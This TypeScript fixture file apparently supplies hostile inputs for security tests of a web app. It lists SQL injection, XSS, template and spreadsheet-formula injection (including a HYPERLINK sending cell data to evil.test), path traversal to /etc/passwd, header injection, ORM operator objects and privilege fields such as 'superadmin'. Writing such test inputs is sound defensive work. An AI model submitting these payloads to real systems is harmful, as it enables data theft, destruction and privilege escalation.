/** What is written into fields of text to be run by whoever shows, stores or opens it. */
export const HOSTILE_TEXTS: readonly string[] = [
  `'; DROP TABLE crates; --`,
  `" OR 1=1 --`,
  `%' UNION SELECT password_hash FROM users --`,
  `$1; SELECT pg_sleep(10)`,
  '\\x27; --',
  `E'\\'`,
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '<svg/onload=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
  '${7*7}',
  '=HYPERLINK("http://evil.test?"&A1,"x")',
  '+1+cmd|calc',
  '-2+3+cmd|calc',
  '@SUM(1+1)',
  '\u202Egnp.exe',
  '../../etc/passwd',
  '%00%0d%0aSet-Cookie:x=1',
  '_%',
  '🏥 ünïcödé 長い',
]

/** Text that no database can keep as it is: to be refused, never changed in silence. */
export const UNKEEPABLE: readonly string[] = ['a\u0000b', '\u0000', 'a\ud800b', '\udfff']

/** What stands where a text, number or flag was meant. */
export const OPERATORS: readonly unknown[] = [
  { $ne: null },
  { not: '' },
  { contains: '' },
  { gt: 0 },
  { increment: 1 },
  { set: 'x' },
  { connect: { id: 'x' } },
  [],
  ['a', 'b'],
  [[]],
  {},
  null,
  true,
  -1,
  1e308,
  2 ** 31,
  2 ** 53,
  1.5,
]

/** Of a query, where all is text. */
export const HOSTILE_QUERIES: readonly string[] = [
  ...HOSTILE_TEXTS,
  ...UNKEEPABLE,
  '',
  '-1',
  '1e9',
  '99999999999999999999',
  'NaN',
  '0x10',
  '0000-01-01',
  '9999-12-31',
  '2026-02-30',
  'true,false',
  '00000000-0000-0000-0000-000000000000',
  'x'.repeat(5_000),
]

/** Fields that the server alone sets. */
export const OTHERS_FIELDS: Readonly<Record<string, unknown>> = {
  role: 'superadmin',
  unit: { id: 'x' },
  unitId: 'x',
  author: 'x',
  author_id: 'x',
  created_by: 'x',
  created_by_id: 'x',
  released_by_id: null,
  decided_by_id: 'x',
  number: 'CR-1-1',
  created_at: '2000-01-01T00:00:00Z',
  is_admin: true,
  permissions: { administer: 'everywhere' },
  status: 'completed',
  version: 99,
  user_id: 'x',
  password_hash: 'x',
  __proto__: null,
}
